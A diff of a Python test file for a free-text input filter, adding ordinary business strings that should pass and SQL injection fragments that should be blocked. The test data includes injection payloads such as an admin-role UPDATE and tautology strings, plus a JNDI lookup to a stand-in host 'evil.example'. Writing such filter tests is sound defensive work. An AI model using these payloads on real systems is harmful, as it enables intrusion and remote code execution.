@@ -1,11 +1,10 @@
 """Free text: what people write is let through, what another reader would run is not."""
 
 import pytest
+from tests.unit.gateways.xmlguard.documents import commented, said
 
 from isthmus.gateways.xmlguard.free_text import fault_of
 from isthmus.gateways.xmlguard.inspecting import verdict_of
-
-from .documents import commented, said
 
 WRITTEN_BY_PEOPLE = (
     "O'Brien & Söhne GmbH",
@@ -124,6 +123,22 @@ WRITTEN_BY_PEOPLE = (
     "hedge by #17",
     "scalp -5 pips",
     "TP=1.2 SL=1.1",
+    "Sales' -- Q1",
+    "Employees' # 5",
+    "Girls' or Boys' in M",
+    "Ladies' and Men's = 2",
+    "-sum(s) due",
+    "= total",
+    "=Equal= AG",
+    "${amount",
+    "Grant Thornton; fees",
+    "l'été à l'hôtel",
+    "'s-Hertogenbosch",
+    "D'Angelo -- final",
+    '24" TV; 27" TV',
+    "on error = call",
+    "<-- see",
+    "ﬁnal",
 )
 
 FRAGMENTS = {
@@ -198,6 +213,17 @@ FRAGMENTS = {
         "a' INTO OUTFILE '/tmp/x",
         "information_schema.tables",
         "1'; DECLARE @x CHAR(8)",
+        "%' OR '%'='",
+        "'+OR+1=1--",
+        "'=0--+",
+        "'='",
+        "' LIKE '%",
+        "' or username like '%",
+        "' group by userid having 1=1--",
+        "a;b;--",
+        "';",
+        "1--",
+        "UPDATE users SET role='admin'",
     ),
     "lookup": (
         "${jndi:ldap://evil.example/a}",
